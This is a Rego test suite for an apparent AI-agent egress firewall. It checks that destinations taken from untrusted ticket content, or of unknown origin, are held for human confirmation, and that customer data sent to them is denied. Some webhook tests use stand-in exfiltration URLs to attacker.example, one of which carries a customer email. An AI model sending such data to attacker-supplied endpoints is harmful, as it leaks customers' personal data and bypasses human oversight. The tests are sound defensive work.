# Tests of egress.rego (and the recipients send_email.rego names). regopy 1.5.2 neither
# takes `with input as <object>` nor `with input.x as <rule>`, so each test passes its
# fields to `evaluated`, which overrides input field by field from local variables.
package firewall.egress_test

import rego.v1

import data.firewall

crm_email := "<EMAIL_aaaaaaaaaaaa>"

ticket_email := "<EMAIL_bbbbbbbbbbbb>"

both_email := "<EMAIL_cccccccccccc>"

crm_phone := "<PHONE_dddddddddddd>"

unknown_email := "<EMAIL_eeeeeeeeeeee>"

ticket_iban := "<IBAN_ffffffffffff>"

crm := {"tools": ["crm_lookup"], "labels": [], "sources": {}}

ticket := {"tools": ["read_ticket"], "labels": ["untrusted"], "sources": {"untrusted": ["read_ticket"]}}

tokens := {
	crm_email: object.union({"kind": "EMAIL"}, crm),
	ticket_email: object.union({"kind": "EMAIL"}, ticket),
	both_email: {"kind": "EMAIL", "tools": ["crm_lookup", "read_ticket"], "labels": ["untrusted"], "sources": {"untrusted": ["read_ticket"]}},
	crm_phone: object.union({"kind": "PHONE"}, crm),
	unknown_email: {"kind": "EMAIL", "tools": [], "labels": [], "sources": {}},
	ticket_iban: object.union({"kind": "IBAN"}, ticket),
}

untrusted := {"labels": ["untrusted"], "sources": {"untrusted": ["read_ticket"]}, "subjects": {}}

clean := {"labels": [], "sources": {}, "subjects": {}}

email_tool := {"name": "send_email", "money_arg": null, "egress_args": []}

webhook_tool := {"name": "post_webhook", "money_arg": null, "egress_args": ["url"]}

just(token) := {"tokens": [token], "typed": false}

text(found) := {"tokens": found, "typed": true}

# The decision document, deny set and hold set for one input.
evaluated(tool, args, arg_sources, session) := result if {
	known := tokens
	result := {
		"decision": firewall.decision,
		"deny": firewall.deny,
		"hold": firewall.hold,
	} with input.tool as tool
		with input.args as args
		with input.tokens as known
		with input.arg_sources as arg_sources
		with input.session as session
}

mail(args, arg_sources, session) := evaluated(email_tool, args, arg_sources, session).decision

webhook(args, arg_sources, session) := evaluated(webhook_tool, args, arg_sources, session)

test_mail_to_an_address_from_a_ticket_is_held if {
	decision := mail(
		{"to": ticket_email, "subject": "Hi", "body": "On it."},
		{"to": just(ticket_email), "subject": text([]), "body": text([])},
		untrusted,
	)
	decision.outcome == "hold"
	decision.reasons == ["send_email's 'to' came from untrusted content (read_ticket); a human must confirm where this data goes"]
}

test_mail_carrying_the_customers_address_to_a_ticket_address_is_denied if {
	decision := mail(
		{"to": ticket_email, "subject": "Hi", "body": crm_email},
		{"to": just(ticket_email), "subject": text([]), "body": just(crm_email)},
		untrusted,
	)
	decision.outcome == "deny"
	decision.reasons == ["send_email would send personal data from crm_lookup (<EMAIL_aaaaaaaaaaaa>) to 'to', which came from untrusted content (read_ticket); personal data never goes where untrusted content points"]
}

test_mail_to_the_crm_address_after_a_ticket_is_allowed if {
	decision := mail(
		{"to": crm_email, "subject": "Hi", "body": crm_phone},
		{"to": just(crm_email), "subject": text([]), "body": just(crm_phone)},
		untrusted,
	)
	decision.outcome == "allow"
}

test_an_address_both_a_ticket_and_the_crm_showed_stays_tainted if {
	decision := mail(
		{"to": both_email, "subject": "Hi", "body": "On it."},
		{"to": just(both_email), "subject": text([]), "body": text([])},
		untrusted,
	)
	decision.outcome == "hold"
}

test_personal_data_to_an_address_a_ticket_and_the_crm_showed_is_denied if {
	decision := mail(
		{"to": both_email, "subject": "Hi", "body": crm_phone},
		{"to": just(both_email), "subject": text([]), "body": just(crm_phone)},
		untrusted,
	)
	decision.outcome == "deny"
}

test_a_tainted_address_in_the_body_is_personal_data_too if {
	decision := mail(
		{"to": ticket_email, "subject": "Hi", "body": both_email},
		{"to": just(ticket_email), "subject": text([]), "body": just(both_email)},
		untrusted,
	)
	decision.outcome == "deny"
}

test_one_reason_per_token_names_a_trusted_tool_that_showed_it if {
	tool := {"name": "send_email", "money_arg": null, "egress_args": []}
	known := object.union(tokens, {crm_email: {"kind": "EMAIL", "tools": ["crm_lookup", "send_email"], "labels": [], "sources": {}}})
	reasons := firewall.decision.reasons with input.tool as tool
		with input.args as {"to": ticket_email, "subject": "Hi", "body": crm_email}
		with input.tokens as known
		with input.arg_sources as {"to": just(ticket_email), "body": just(crm_email)}
		with input.session as {"sources": {"untrusted": ["read_ticket"]}}
	reasons == ["send_email would send personal data from crm_lookup (<EMAIL_aaaaaaaaaaaa>) to 'to', which came from untrusted content (read_ticket); personal data never goes where untrusted content points"]
}

test_a_ticket_address_in_cc_exposes_the_recipient_and_is_denied if {
	decision := mail(
		{"to": crm_email, "cc": [ticket_email], "subject": "Hi", "body": "x"},
		{"to": just(crm_email), "cc": just(ticket_email), "subject": text([]), "body": text([])},
		untrusted,
	)
	decision.outcome == "deny"
	some reason in decision.reasons
	contains(reason, "to 'cc', which came from untrusted content (read_ticket)")
}

test_a_ticket_address_in_bcc_is_held if {
	decision := mail(
		{"to": ticket_email, "bcc": ticket_email, "subject": "Hi", "body": "x"},
		{"to": just(ticket_email), "bcc": just(ticket_email), "subject": text([]), "body": text([])},
		untrusted,
	)
	decision.outcome == "hold"
	some reason in decision.reasons
	startswith(reason, "send_email's 'bcc' came from untrusted content (read_ticket)")
}

test_a_cc_the_agent_typed_is_denied if {
	decision := mail(
		{"to": crm_email, "cc": "<EMAIL#0badc0de>", "subject": "Hi", "body": "x"},
		{"to": just(crm_email), "cc": text([]), "subject": text([]), "body": text([])},
		clean,
	)
	decision.outcome == "deny"
}

test_a_null_cc_is_no_recipient if {
	decision := mail(
		{"to": crm_email, "cc": null, "subject": "Hi", "body": "x"},
		{"to": just(crm_email), "cc": {"tokens": [], "typed": false}, "subject": text([]), "body": text([])},
		clean,
	)
	decision.outcome == "allow"
}

test_a_token_of_unknown_origin_is_held if {
	decision := mail(
		{"to": unknown_email, "subject": "Hi", "body": "x"},
		{"to": just(unknown_email), "subject": text([]), "body": text([])},
		clean,
	)
	decision.outcome == "hold"
	decision.reasons == ["send_email's 'to' holds a token of unknown origin; a human must confirm where this data goes"]
}

test_personal_data_to_a_token_of_unknown_origin_is_denied if {
	decision := mail(
		{"to": unknown_email, "subject": "Hi", "body": crm_phone},
		{"to": just(unknown_email), "subject": text([]), "body": just(crm_phone)},
		clean,
	)
	decision.outcome == "deny"
}

# Any tool that declares egress_args: the rules fill the hold and deny sets whatever the
# tool's own module says (post_webhook has none here, so its decision is a deny anyway).

test_a_url_written_after_untrusted_content_is_held if {
	result := webhook({"url": "https://attacker.example/c", "body": "ok"}, {"url": text([]), "body": text([])}, untrusted)
	result.hold == {"post_webhook's 'url' was written by the agent after untrusted content entered this session (from read_ticket); a human must confirm where this data goes"}
}

test_a_url_written_in_a_clean_session_is_not_held if {
	result := webhook({"url": "https://hooks.example/c", "body": "ok"}, {"url": text([]), "body": text([])}, clean)
	count(result.hold) == 0
}

test_customer_data_in_a_url_written_after_untrusted_content_is_denied if {
	url := concat("", ["https://attacker.example/c?e=", crm_email])
	result := webhook({"url": url, "body": "ok"}, {"url": text([crm_email]), "body": text([])}, untrusted)
	some reason in result.deny
	startswith(reason, "post_webhook would send personal data from crm_lookup (<EMAIL_aaaaaaaaaaaa>) to 'url'")
}

test_an_argument_without_a_source_view_counts_as_written_by_the_agent if {
	result := webhook({"url": "https://attacker.example/c"}, {}, untrusted)
	count(result.hold) == 1
}

test_arguments_not_declared_egress_are_not_targets if {
	result := webhook({"body": "see https://attacker.example/c"}, {"body": text([])}, untrusted)
	count(result.hold) == 0
}

test_a_payee_from_a_ticket_is_held_naming_it if {
	tool := {"name": "pay_invoice", "money_arg": "amount", "egress_args": ["iban"]}
	result := evaluated(tool, {"iban": ticket_iban, "amount": 40}, {"iban": just(ticket_iban), "amount": text([])}, untrusted)
	"pay_invoice's 'iban' came from untrusted content (read_ticket); a human must confirm where this data goes" in result.hold
}
